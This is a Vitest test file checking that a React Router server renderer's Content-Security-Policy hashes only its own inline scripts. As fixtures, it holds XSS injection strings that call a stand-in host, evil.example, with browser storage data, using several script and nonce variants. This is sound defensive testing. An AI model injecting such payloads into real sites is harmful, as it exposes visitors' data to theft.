import { createHash } from 'node:crypto'
import {
  createRequestHandler,
  Links,
  Meta,
  RouterContextProvider,
  Scripts,
  ScrollRestoration,
  type ServerBuild,
} from 'react-router'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { type PageContext, pageContext } from '#server/pages/page-context.ts'
import handleRequest, { handleError } from './entry.server.tsx'
import { preHydrationScript } from './lib/pre-hydration-script.ts'

beforeAll(() => void vi.stubEnv('PROD', true))
afterAll(() => void vi.unstubAllEnvs())

const STOLEN = 'fetch("https://evil.example/?" + localStorage.length)'

/** A builder's description, as if it had been rendered as markup. */
function Instrument() {
  const words = `<script>${STOLEN}</script><script nonce="guessed">${STOLEN}</script><script async nonce>${STOLEN}</script>`
  // biome-ignore lint/security/noDangerouslySetInnerHtml: the fault that this test is about
  return <main dangerouslySetInnerHTML={{ __html: words }} />
}

const page = {
  default: Instrument,
  loader: () => ({ description: `</script><script>${STOLEN}</script>`, slow: Promise.resolve('later') }),
  meta: () => [{ title: 'Fern' }, { 'script:ld+json': { '@type': 'Product', description: `</script><script>${STOLEN}` } }],
  Layout: ({ children }: { children: React.ReactNode }) => (
    <html lang="en">
      <head>
        <Meta />
        <Links />
      </head>
      <body>
        {children}
        <ScrollRestoration />
        <Scripts />
      </body>
    </html>
  ),
}
const asset = { id: 'root', path: '', module: '/assets/root.js', hasLoader: true, imports: ['/assets/ui.js'] }
const build = {
  entry: { module: { default: handleRequest, handleError } },
  routes: { root: { id: 'root', path: '', module: page } },
  assets: {
    entry: { imports: [], module: '/assets/entry.js' },
    routes: { root: asset },
    url: '/assets/manifest.js',
    version: '1',
  },
  basename: '/',
  publicPath: '/',
  future: {},
  ssr: true,
  isSpaMode: false,
  prerender: [],
  routeDiscovery: { mode: 'lazy', manifestPath: '/__manifest' },
} as unknown as ServerBuild
const handle = createRequestHandler(build, 'production')

async function render() {
  const context = new RouterContextProvider()
  let html = ''
  const takeHtml = (text: string) => {
    html = text
  }
  context.set(pageContext, { takeHtml } as PageContext)
  const answer = await handle(new Request('http://shop.test/'), context)
  const policy = answer.headers.get('content-security-policy') ?? ''
  return { html, hashes: policy.match(/'sha256-[^']+'/g) ?? [] }
}
const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`

/** The inline scripts that a browser would run. */
function inlineScripts(html: string) {
  return [...html.matchAll(/<script(?![^>]*(?:\bsrc=|ld\+json))[^>]*>([\s\S]*?)<\/script>/g)].map(([, script = '']) => script)
}

test('the policy lists the renderer’s own inline scripts and none injected through user text', async () => {
  const { html, hashes } = await render()

  expect(html).toContain(`<script>${STOLEN}</script>`)
  expect(hashes).not.toContain(hashOf(STOLEN))
  const own = inlineScripts(html).filter((script) => script !== STOLEN)
  expect(own.length).toBeGreaterThanOrEqual(4)
  expect(hashes.toSorted()).toEqual([...new Set([preHydrationScript(), ...own].map(hashOf))].toSorted())
})

test('structured data for search engines needs no policy entry, and its text cannot break out', async () => {
  const { html, hashes } = await render()

  const [, data = ''] = /<script type="application\/ld\+json">([\s\S]*?)<\/script>/.exec(html) ?? []
  expect(JSON.parse(data)).toMatchObject({ description: `</script><script>${STOLEN}` })
  expect(hashes).not.toContain(hashOf(data))
})

test('a page renders the same way every time, so it can be cached and shared', async () => {
  const [first, second] = [await render(), await render()]
  expect(first).toEqual(second)
  expect(first.html.replace('nonce="guessed"', '')).not.toContain('nonce="')
})
